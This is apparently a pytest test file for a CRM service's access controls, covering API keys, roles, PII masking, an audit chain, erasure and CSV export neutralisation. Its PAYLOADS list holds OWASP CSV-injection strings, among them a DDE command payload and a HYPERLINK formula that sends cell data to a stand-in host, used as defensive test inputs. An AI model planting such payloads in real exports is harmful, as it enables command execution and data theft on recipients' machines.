"""Access control pieces on their own: keys file (hashes, expiry, revocation, reload), roles and scope, masking,
the audit chain and tamper detection, formula neutralisation and erasure (real files in tmp dirs)."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from features.export import neutralise_arrow, neutralise_frame, neutralise_text
from serving.access import audit
from serving.access.erasure import ErasureError, TombstoneWatcher, forget
from serving.access.exports import ExportPolicy, policy_for
from serving.access.keys import Authenticator, KeysFileError, KeyStore, add_key, read_keys_file, revoke_key
from serving.access.masking import mask_address, mask_email, mask_name, mask_phone, mask_record
from serving.access.roles import ACTIONS, ENDPOINT_ACTIONS, PERMISSIONS, ROLES, Principal, matrix_markdown, scope_mask

ROOT = Path(__file__).resolve().parents[2]
#: OWASP's classic CSV injection payloads
PAYLOADS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
            '=HYPERLINK("http://x.example/?leak="&A1,"click")']


# --------------------------------------------------------------------------------------------------- keys
def test_keys_file_stores_only_salted_hashes_and_checks_keys(tmp_path: Path) -> None:
    f = tmp_path / "keys.yaml"
    key, entry = add_key(f, "ann", "sales", owner_id="r001")
    key2, _ = add_key(f, "ann2", "sales", owner_id="r001")
    text = f.read_text(encoding="utf-8")
    assert key not in text and key.split("_", 2)[2] not in text
    kf = read_keys_file(f)
    assert len({k.salt for k in kf.keys}) == 2 and len({k.hash for k in kf.keys}) == 2
    store = KeyStore(f)
    who = store.check(key.encode())
    assert isinstance(who, Principal) and (who.name, who.role, who.owner_id) == ("ann", "sales", "r001")
    assert store.check(key.encode()[:-1] + (b"A" if key[-1] != "A" else b"B")) is None
    assert store.check(b"crm_00000000_" + b"x" * 43) is None
    assert store.check(b"not a key") is None
    assert isinstance(store.check(key2.encode()), Principal)


def test_expired_and_revoked_keys_are_refused_and_edits_apply_without_restart(tmp_path: Path) -> None:
    f = tmp_path / "keys.yaml"
    store = KeyStore(f)  # the file does not exist yet
    assert len(store) == 0
    key, _ = add_key(f, "bob", "analyst", expires_at=datetime.now(UTC) + timedelta(days=1))
    assert isinstance(store.check(key.encode()), Principal)  # picked up on the next check
    old, _ = add_key(f, "carl", "analyst", expires_at=datetime(2020, 1, 1, tzinfo=UTC))
    assert store.check(old.encode()) == "API key expired"
    assert store.check(key.encode(), now=datetime.now(UTC) + timedelta(days=2)) == "API key expired"
    revoke_key(f, "bob")
    assert store.check(key.encode()) == "API key revoked"
    with pytest.raises(KeysFileError, match="no active key"):
        revoke_key(f, "bob")
    new, _ = add_key(f, "dora", "integration")
    assert isinstance(store.check(new.encode()), Principal)
    # a broken edit keeps the keys in force and says why
    good = f.read_text(encoding="utf-8")
    f.write_text(good + "\n  - {id: zz}\n", encoding="utf-8")
    assert isinstance(store.check(new.encode()), Principal)
    assert store.error is not None and "keys" in store.error
    f.write_text(good, encoding="utf-8")
    assert isinstance(store.check(new.encode()), Principal) and store.error is None


def test_keys_file_errors_name_the_entry(tmp_path: Path) -> None:
    f = tmp_path / "keys.yaml"
    f.write_text("keys:\n  - {id: 1a2b3c4d, name: x, role: boss, salt: " + "0" * 32 + ", hash: " + "0" * 64 + "}\n")
    with pytest.raises(KeysFileError, match=r"keys\.0\.role"):
        read_keys_file(f)
    with pytest.raises(KeysFileError, match="--team"):
        add_key(tmp_path / "k2.yaml", "m", "manager")
    with pytest.raises(KeysFileError, match="--owner-id"):
        add_key(tmp_path / "k2.yaml", "s", "sales")
    assert read_keys_file(ROOT / "configs" / "keys.yaml").keys == []  # the example file holds no key


def test_shared_env_keys_stay_admin(tmp_path: Path) -> None:
    f = tmp_path / "keys.yaml"
    key, _ = add_key(f, "eve", "integration")
    auth = Authenticator(KeyStore(f), frozenset({"legacy-key"}))
    shared = auth.authenticate(b"legacy-key")
    assert isinstance(shared, Principal) and shared.role == "admin" and shared.name == "shared-key"
    assert auth.authenticate(key.encode()) == Principal("eve", "integration", source="keys file")
    assert auth.authenticate(b"nope") == "invalid API key"
    assert not Authenticator(KeyStore(None), frozenset()).configured()


# ------------------------------------------------------------------------------------------ roles, scope
def test_permission_matrix_covers_every_endpoint_and_the_issue_roles() -> None:
    from serving.http.middleware import PROTECTED

    assert set(ENDPOINT_ACTIONS) == set(PROTECTED)
    assert set(PERMISSIONS) == set(ACTIONS)
    assert all(PERMISSIONS[a] == frozenset(ROLES) or "admin" in PERMISSIONS[a] for a in ACTIONS)
    assert not Principal("i", "integration").may("ui") and Principal("i", "integration").may("score")
    assert not Principal("a", "analyst").sees_pii and not Principal("a", "analyst").may("export_pii")
    assert Principal("m", "manager", team="east").sees_pii
    md = matrix_markdown()
    doc = (ROOT / "docs" / "access.md").read_text(encoding="utf-8")
    assert md in doc, "docs/access.md must show the matrix of serving/access/roles.py"


def test_scope_of_managers_and_sales() -> None:
    owner = pd.Series(["r001", "r002", None, "r001"], dtype="string")
    team = pd.Series(["east", "east", None, "north"], dtype="string")
    assert scope_mask(Principal("s", "sales", owner_id="r001"), owner, team).tolist() == [True, False, False, True]
    assert scope_mask(Principal("m", "manager", team="east"), owner, team).tolist() == [True, True, False, False]
    assert scope_mask(Principal("m", "manager"), owner, team).tolist() == [False] * 4
    assert scope_mask(Principal("a", "analyst"), owner, team).all()
    assert Principal("s", "sales", owner_id="r001").sees("r001", "x") and not Principal("s", "sales").sees(None, None)


# ------------------------------------------------------------------------------------------------ masking
def test_masking_examples_of_the_issue() -> None:
    assert mask_phone("13812342206") == "138****2206"
    assert mask_phone("+86 138-1234-2206") == "138****2206"
    assert mask_email("ming@example.com") == "m***@example.com"
    assert mask_address("广东省深圳市科技园路825号23栋809室") == "广东省深圳市"
    assert mask_address("科技园路825号", "广东省", "深圳市") == "广东省 深圳市"
    assert mask_name("张伟") == "张*" and mask_name("欧阳娜娜") == "欧阳*"
    assert mask_name("Wang Siyuan") == "Wang *" and mask_name("Linda Wang") == "Wang *"
    rec = mask_record({"customer_id": "C1", "name": "王伟", "phone": "15896973130", "email": "wei.wang@example.net",
                       "address": None, "province": "江苏省", "city": "苏州市", "age": 30})
    assert rec == {"customer_id": "C1", "name": "王*", "phone": "158****3130", "email": "w***@example.net",
                   "address": None, "province": "江苏省", "city": "苏州市", "age": 30}


# ------------------------------------------------------------------------------------------ neutralising
def test_formula_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    for p in PAYLOADS:
        assert neutralise_text(p) == "'" + p
    for ok in ("-12.5", "+86", "C0001", "张伟", "a=b", ""):
        assert neutralise_text(ok) == ok
    t = pa.table({"id": PAYLOADS + ["C1"], "amount": [-1.5] * len(PAYLOADS) + [2.0],
                  "n": list(range(len(PAYLOADS) + 1))})
    out = neutralise_arrow(t)
    assert out.column("id").to_pylist() == ["'" + p for p in PAYLOADS] + ["C1"]
    assert out.schema.field("amount").type == pa.float64() and out.column("amount").to_pylist()[0] == -1.5
    df = pd.DataFrame({"id": PAYLOADS, "name": pd.Categorical(PAYLOADS), "v": range(len(PAYLOADS))})
    got = neutralise_frame(df)
    assert got["id"].tolist() == ["'" + p for p in PAYLOADS] and got["name"].astype(str).str.startswith("'").all()
    assert got["v"].dtype == df["v"].dtype and df["id"].tolist() == PAYLOADS  # the input is not changed


def test_export_policy_masks_for_roles_without_pii_access() -> None:
    t = pa.table({"customer_id": ["=C1"], "name": ["王伟"], "phone": ["15896973130"], "score": [70]})
    analyst = policy_for(Principal("a", "analyst"))
    got = analyst.arrow(t).to_pylist()[0]
    assert got == {"customer_id": "'=C1", "name": "王*", "phone": "158****3130", "score": 70}
    assert policy_for(Principal("s", "sales", owner_id="r1")).arrow(t).to_pylist()[0]["phone"] == "15896973130"
    raw = ExportPolicy(neutralise=False).arrow(t).to_pylist()[0]
    assert raw["customer_id"] == "=C1"
    rej = pd.DataFrame({"row": [1], "id": ["@x"], "column": ["phone"], "value": ["15896973130"], "reason": ["bad"]})
    assert analyst.rejects(rej).iloc[0].tolist() == [1, "'@x", "phone", "158****3130", "bad"]


# -------------------------------------------------------------------------------------------------- audit
def _lines(p: Path) -> list[str]:
    return p.read_text(encoding="utf-8").splitlines()


def test_audit_chain_detects_edits_removals_and_insertions(tmp_path: Path) -> None:
    p = tmp_path / "audit.jsonl"
    who = Principal("ann", "analyst")
    for cid in ("C1", "C2", "C3", "C4"):
        audit.append("view_profile", who, [cid], ["name", "phone"], masked=True, path=p)
    v = audit.verify(p)
    assert v.ok and v.lines == 4
    good = _lines(p)
    cases = {
        "edited": [good[0], good[1].replace('"C2"', '"C9"'), *good[2:]],
        "removed": [good[0], *good[2:]],
        "inserted": [*good[:2], good[1], *good[2:]],
    }
    for what, lines in cases.items():
        p.write_text("\n".join(lines) + "\n", encoding="utf-8")
        v = audit.verify(p)
        assert not v.ok and v.broken_line == (3 if what == "inserted" else 2), (what, v)
    p.write_text("\n".join(good) + "\n", encoding="utf-8")
    assert audit.verify(p).ok
    assert [e["customers"] for e in audit.query(customer="C3", path=p)] == [["C3"]]
    assert len(audit.query(audit.parse_since("1d"), who="ann", path=p)) == 4
    assert audit.query(who="bob", path=p) == []
    with pytest.raises(audit.AuditError, match="--since"):
        audit.parse_since("last week")


# ------------------------------------------------------------------------------------------------ erasure
def test_forget_removes_pii_from_every_written_file_and_keeps_scores(tmp_path: Path) -> None:
    from features.io import write_parquet_atomic

    data, home, out = tmp_path / "data", tmp_path / "home", tmp_path / "exports"
    cust = pd.DataFrame({"customer_id": ["C1", "C2"], "name": ["欧阳娜娜", "李雷"],
                         "phone": ["13812342206", "13900001111"],
                         "email": ["nana@example.com", "lei@example.com"], "address": ["广东省深圳市科技园路1号", None],
                         "created_at": pd.to_datetime(["2024-01-01", "2024-01-02"])})
    write_parquet_atomic(cust, data / "customers.parquet")
    write_parquet_atomic(pd.DataFrame({"feedback_id": ["f1", "f2"], "customer_id": ["C1", "C2"],
                                       "text": ["快递太慢了，客服态度差", "很满意"]}), data / "feedback.parquet")
    (data / "rejects").mkdir()
    (data / "rejects" / "customers.csv").write_text("row,column,value\n3,phone,13812342206\n", encoding="utf-8-sig")
    write_parquet_atomic(pd.DataFrame({"customer_id": ["C1"], "score": [71]}), home / "records" / "m" / "p.parquet")
    out.mkdir()
    export = out / "scored.csv"
    export.write_text("customer_id,name,phone,score\nC1,欧阳娜娜,13812342206,71\nC2,李雷,13900001111,40\n", "utf-8")
    summary = out / "scored.summary.json"
    summary.write_text(json.dumps({"top": "欧阳娜娜", "mail": "nana@example.com"}), encoding="utf-8")
    log = tmp_path / "audit.jsonl"
    admin = Principal("root", "admin")
    audit.append("export_scores", admin, [], ["name"], path=log, files=[str(export), str(summary)])
    watcher = TombstoneWatcher(log)
    assert watcher.new_ids() == set()

    report = forget("C1", data, admin, home=home, audit_file=log)
    assert report.fields == ["address", "email", "feedback.text", "name", "phone"]
    assert pd.read_parquet(data / "feedback.parquet")["text"].tolist() == [None, "很满意"]
    for f in [*data.rglob("*"), *home.rglob("*"), *out.rglob("*")]:
        if f.is_file():
            raw = f.read_bytes()
            for v in ("13812342206", "nana@example.com", "欧阳娜娜", "科技园路1号", "快递太慢了"):
                assert v.encode() not in raw and json.dumps(v).encode()[1:-1] not in raw, (f, v)
    kept = pd.read_parquet(data / "customers.parquet")
    assert kept["customer_id"].tolist() == ["C1", "C2"] and kept.loc[1, "phone"] == "13900001111"
    assert "C1,,,71" in export.read_text("utf-8") and "李雷" in export.read_text("utf-8")
    assert pd.read_parquet(home / "records" / "m" / "p.parquet")["score"].tolist() == [71]
    tomb = audit.query(customer="C1", path=log)[-1]
    assert tomb["action"] == "forget" and tomb["fields"] == report.fields and audit.verify(log).ok
    assert "13812342206" not in log.read_text("utf-8")
    assert watcher.new_ids() == {"C1"} and watcher.new_ids() == set()
    with pytest.raises(ErasureError, match="C404"):
        forget("C404", data, admin, home=home, audit_file=log)


def test_unknown_field_names_in_a_422_never_echo_pii() -> None:
    from serving.http.postprocess import safe_names

    assert safe_names(["agee", "recency_days"]) == "agee, recency_days"
    got = safe_names(["13812342206", "王小明", "a" * 200, "ok"])
    assert got == "<name of 11 characters>, <name of 3 characters>, <name of 200 characters>, ok"


# ---------------------------------------------------------------------------------- matrix: every path, every export
#: CLI commands that write no file for people (docs/access.md says why); every other command is in CLI_EXPORTS.
NOT_EXPORTS = {
    "audit verify", "bento build", "demo", "features", "forget", "ingest", "keys add", "keys list", "keys revoke",
    "monitor drift", "registry list", "registry promote", "registry rollback", "segment fit", "serve", "synth",
    "train churn", "train cross_sell", "train lead", "train table", "train uplift", "train uplift-table",
}


def _cli_commands() -> set[str]:
    import typer.main

    from serving.cli.main import app

    def walk(c, prefix: str = ""):  # noqa: ANN001, ANN202
        if hasattr(c, "list_commands"):
            for n in c.list_commands(None):
                yield from walk(c.get_command(None, n), f"{prefix} {n}".strip())
        else:
            yield prefix

    return set(walk(typer.main.get_command(app)))


def test_every_cli_export_and_every_protected_path_is_in_the_documented_matrix() -> None:
    from serving.access.roles import CLI_EXPORTS, cli_markdown
    from serving.http.middleware import PROTECTED

    commands = _cli_commands()
    assert set(CLI_EXPORTS) | NOT_EXPORTS == commands, commands ^ (set(CLI_EXPORTS) | NOT_EXPORTS)
    assert not set(CLI_EXPORTS) & NOT_EXPORTS
    assert all(a in ACTIONS for a in CLI_EXPORTS.values())
    doc = (ROOT / "docs" / "access.md").read_text(encoding="utf-8")
    assert cli_markdown() in doc, "docs/access.md must show CLI_EXPORTS of serving/access/roles.py"
    endpoints = doc[doc.index("Endpoints → actions:"):doc.index("A key whose role lacks")]
    for path in PROTECTED:
        assert f" {path}`" in endpoints, f"docs/access.md: {path} is missing from the endpoint table"


# ------------------------------------------------------------------------------------ 422 echo of client names
def test_names_in_a_422_path_never_echo_pii() -> None:
    from serving.http.postprocess import field_path, format_validation_errors

    assert field_path(("leads", 0, "features", "age")) == "leads[0].features.age"
    assert field_path(("leads", 0, "13812342206")) == "leads[0].<name of 11 characters>"
    status, msg, errors = format_validation_errors([
        {"type": "extra_forbidden", "loc": ("leads", 0, "王小明"), "msg": "Extra inputs are not permitted"},
        {"type": "finite_number", "loc": ("leads", 1, "features", "m@example.com", "float"), "msg": "x"},
    ])
    text = msg + repr(errors)
    assert status == 422 and "王小明" not in text and "m@example.com" not in text
    assert "leads[0].<name of 3 characters>: unknown field" in msg


def test_uplift_422_cuts_unknown_feature_names() -> None:
    from types import SimpleNamespace

    from serving.http.postprocess import RequestError
    from serving.http.uplift import uplift_frame

    model = SimpleNamespace(preprocessor_=SimpleNamespace(feature_names_in_=["age"], numeric_features_=["age"]))
    with pytest.raises(RequestError) as e:
        uplift_frame(model, [{"age": 1, "13812342206": 1, "x" * 300: 2}])
    assert "13812342206" not in e.value.message and "x" * 65 not in e.value.message
    assert "<name of 11 characters>" in e.value.message


# ------------------------------------------------------------------------------------------ large export lines
def test_a_large_export_is_audited_1000_ids_per_line_in_one_chain(tmp_path: Path) -> None:
    from serving.access.exports import record_export

    p = tmp_path / "audit.jsonl"
    monkey = pytest.MonkeyPatch()
    monkey.setenv("CRMSCORE_AUDIT_FILE", str(p))
    try:
        audit.append("view_profile", Principal("a", "analyst"), ["C1"], ["name"], path=p)
        ids = [f"C{i}" for i in range(2500)]
        last = record_export("export_lists", Principal("a", "analyst"), [tmp_path / "x.csv"], ids, ["customer_id"],
                             command="actions")
    finally:
        monkey.undo()
    lines = [e for _, e in audit.read_entries(p)]
    assert [len(e["customers"]) for e in lines] == [1, 1000, 1000, 500] and last == lines[-1]
    assert [e["detail"]["part"] for e in lines[1:]] == [1, 2, 3] and lines[1]["detail"]["parts"] == 3
    assert audit.verify(p).ok and [e["seq"] for e in lines] == [1, 2, 3, 4]
    assert [e["seq"] for e in audit.query(customer="C2499", path=p)] == [4]


def test_export_ids_are_read_back_from_files_spark_folders_and_sql_tables(tmp_path: Path) -> None:
    import pandas as pd
    import sqlalchemy as sa

    from serving.access.exports import ids_of_output

    df = pd.DataFrame({"score": [10, 20, 30], "lead_id": ["=L1", "L2", "L3"]})
    df.to_csv(tmp_path / "one.csv", index=False)
    assert ids_of_output(str(tmp_path / "one.csv")) == ["=L1", "L2", "L3"]
    parts = tmp_path / "spark_out"  # a Spark output folder: part files beside _SUCCESS and .crc files
    parts.mkdir()
    df.iloc[:2].to_parquet(parts / "part-00000.parquet", index=False)
    df.iloc[2:].to_parquet(parts / "part-00001.parquet", index=False)
    (parts / "_SUCCESS").write_text("")
    (parts / ".part-00000.parquet.crc").write_text("")
    assert sorted(ids_of_output(str(parts))) == ["=L1", "L2", "L3"]
    csv_parts = tmp_path / "spark_csv"
    csv_parts.mkdir()
    df.iloc[:1].to_csv(csv_parts / "part-00000.csv", index=False)
    df.iloc[1:].to_csv(csv_parts / "part-00001.csv", index=False)
    assert sorted(ids_of_output(str(csv_parts), id_col="lead_id")) == ["=L1", "L2", "L3"]
    db = tmp_path / "crm.db"
    df.rename(columns={"lead_id": "customer_id"}).to_sql("scores", sa.create_engine(f"sqlite:///{db}"), index=False)
    assert ids_of_output(f"sqlite:///{db}", "scores") == ["=L1", "L2", "L3"]
    assert ids_of_output(str(tmp_path / "missing.csv")) == []
